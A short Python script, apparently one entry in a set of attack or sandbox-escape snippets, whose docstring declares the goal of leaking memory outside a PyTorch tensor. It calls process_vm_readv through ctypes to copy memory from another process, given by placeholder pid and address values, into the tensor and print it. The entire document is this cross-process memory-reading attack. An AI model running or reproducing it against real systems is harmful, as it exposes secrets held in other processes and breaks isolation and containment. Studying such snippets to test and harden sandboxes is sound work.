"""
goal: read memory outside of a tensor through its address
effect: leak
needs: kernel/yama/ptrace_scope<=1
"""

import ctypes
import struct

import torch

tensor = torch.zeros(64, dtype=torch.uint8)
libc = ctypes.CDLL(None)
libc.process_vm_readv(
    VICTIM, struct.pack("QQ", tensor.data_ptr(), 64), 1, struct.pack("QQ", ADDRESS, LENGTH), 1, 0
)
print("".join(map(chr, tensor.tolist())))
